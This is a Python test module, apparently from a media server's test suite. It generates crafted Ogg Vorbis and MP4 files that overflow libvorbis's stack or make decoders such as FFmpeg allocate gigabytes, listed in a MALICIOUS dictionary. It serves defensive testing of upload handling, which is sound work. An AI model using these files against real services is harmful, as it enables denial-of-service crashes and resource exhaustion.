"""Small files that are valid enough to crash a decoder or make it allocate gigabytes."""

from __future__ import annotations

import struct
from collections.abc import Callable

from tests.server.ogg import stream

STACK_ENTRIES = 2**20
"""Entries of a Vorbis codebook for which libvorbis uses 8 MiB of stack, the default stack limit."""
MP4_SAMPLES = 2**26
"""Samples for which FFmpeg allocates a 1.5 GiB index."""


class _Bits:
    """A bit string in Vorbis packing order: least significant bit first."""

    def __init__(self) -> None:
        self._value = self._length = 0

    def put(self, value: int, width: int) -> None:
        self._value |= value << self._length
        self._length += width

    def to_bytes(self) -> bytes:
        return self._value.to_bytes((self._length + 7) // 8, "little")


def _codebook(bits: _Bits, dimensions: int, entries: int, *, values: bool) -> None:
    """A codebook in which all codewords have the same length; ``entries`` is a power of two."""
    length = entries.bit_length() - 1
    bits.put(0x564342, 24)
    bits.put(dimensions, 16)
    bits.put(entries, 24)
    bits.put(1, 1)  # ordered: one run of all entries
    bits.put(length - 1, 5)
    bits.put(entries, entries.bit_length())
    bits.put(1 if values else 0, 4)
    if values:  # lattice with one value per dimension
        bits.put(0, 32)  # minimum
        bits.put(0, 32)  # delta
        bits.put(0, 4)  # bits per value - 1
        bits.put(0, 1)  # not cumulative
        bits.put(0, 1)


def vorbis(codebooks: int, dimensions: int, entries: int, *, values: bool) -> bytes:
    """An Ogg Vorbis file with valid headers: ``codebooks`` codebooks, one of everything else, and some packets."""
    identification = b"\x01vorbis" + struct.pack("<IBIiiiBB", 0, 1, 8000, 0, 0, 0, 0x66, 1)
    comment = b"\x03vorbis" + struct.pack("<IIB", 0, 0, 1)
    bits = _Bits()
    bits.put(codebooks - 1, 8)
    for _ in range(codebooks):
        _codebook(bits, dimensions, entries, values=values)
    bits.put(0, 6 + 16)  # one time transform, of type 0
    bits.put(0, 6)  # one floor
    bits.put(1, 16)  # type 1
    bits.put(0, 5)  # no partitions
    bits.put(0, 2)  # multiplier
    bits.put(8, 4)  # bits per position
    bits.put(0, 6 + 16)  # one residue, of type 0
    bits.put(0, 24 + 24 + 24 + 6 + 8)  # from 0 to 0, one class, codebook 0
    bits.put(0, 3 + 1)  # no values to read
    bits.put(0, 6 + 16)  # one mapping, of type 0
    bits.put(0, 1 + 1 + 2 + 8 + 8 + 8)
    bits.put(0, 6 + 1 + 16 + 16 + 8)  # one mode
    bits.put(1, 1)
    setup = b"\x05vorbis" + bits.to_bytes()
    return stream([[identification], [comment, setup], [b"\0", b"\0"]], [0, 0, 64])


def _box(kind: bytes, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return struct.pack(">I4s", 8 + len(body), kind) + body


def _full_box(kind: bytes, *parts: bytes, flags: int = 0) -> bytes:
    return _box(kind, struct.pack(">I", flags), *parts)


def _track(number: int, samples: int) -> bytes:
    """A track of ``samples`` one-byte samples in one chunk."""
    entry = _box(b"mp4a", bytes(6), struct.pack(">HIIHHHHI", 1, 0, 0, 1, 16, 0, 0, 8000 << 16))
    table = _box(
        b"stbl",
        _full_box(b"stsd", struct.pack(">I", 1), entry),
        _full_box(
            b"stts", struct.pack(">I", 1 if samples else 0), struct.pack(">II", samples, 1024) if samples else b""
        ),
        _full_box(
            b"stsc", struct.pack(">I", 1 if samples else 0), struct.pack(">III", 1, samples, 1) if samples else b""
        ),
        _full_box(b"stsz", struct.pack(">II", 1 if samples else 0, samples)),
        _full_box(b"stco", struct.pack(">I", 1 if samples else 0), struct.pack(">I", 64) if samples else b""),
    )
    return _box(
        b"trak",
        _full_box(b"tkhd", struct.pack(">IIIII", 0, 0, number, 0, 0), bytes(60), flags=7),
        _box(
            b"mdia",
            _full_box(b"mdhd", struct.pack(">IIIIHH", 0, 0, 8000, samples & 0xFFFFFFFF, 0x55C4, 0)),
            _full_box(b"hdlr", bytes(4), b"soun", bytes(13)),
            _box(b"minf", _full_box(b"smhd", bytes(4)), table),
        ),
    )


def _movie_header(tracks: int) -> bytes:
    return _full_box(
        b"mvhd", struct.pack(">IIIIIH", 0, 0, 8000, 0, 0x10000, 0x100), bytes(70), struct.pack(">I", tracks + 1)
    )


def mp4_constant_stsz(samples: int = MP4_SAMPLES, tracks: int = 1) -> bytes:
    """An MP4 with one constant size for a huge number of samples."""
    head = _box(b"ftyp", b"isom", bytes(4), b"isom")
    movie = _box(b"moov", _movie_header(tracks), *(_track(number + 1, samples) for number in range(tracks)))
    return head + movie + _box(b"mdat", bytes(64))


def mp4_huge_trun(samples: int = MP4_SAMPLES) -> bytes:
    """A fragmented MP4 whose fragment declares a huge number of samples, all of the default size and duration."""
    head = _box(b"ftyp", b"iso5", bytes(4), b"iso5")
    extends = _box(b"mvex", _full_box(b"trex", struct.pack(">IIIII", 1, 1, 1, 1, 0)))
    movie = _box(b"moov", _movie_header(1), _track(1, 0), extends)
    run = _full_box(b"trun", struct.pack(">I", samples))
    fragment = _box(
        b"moof",
        _full_box(b"mfhd", struct.pack(">I", 1)),
        _box(b"traf", _full_box(b"tfhd", struct.pack(">I", 1), flags=0x20000), run),
    )
    return head + movie + fragment + _box(b"mdat", bytes(8192))


def vorbis_stack_overflow() -> bytes:
    """About 190 bytes: one codebook with enough entries for libvorbis to overflow its thread's stack."""
    return vorbis(1, 1, STACK_ENTRIES, values=False)


def vorbis_memory() -> bytes:
    """40 codebooks, each unpacked to 8 million floats."""
    return vorbis(40, 127, 2**16, values=True)


MALICIOUS: dict[str, Callable[[], bytes]] = {
    "Vorbis codebook that overflows the stack": vorbis_stack_overflow,
    "Vorbis codebooks that take gigabytes": vorbis_memory,
    "MP4 with a constant stsz": mp4_constant_stsz,
    "MP4 with a huge trun": mp4_huge_trun,
}
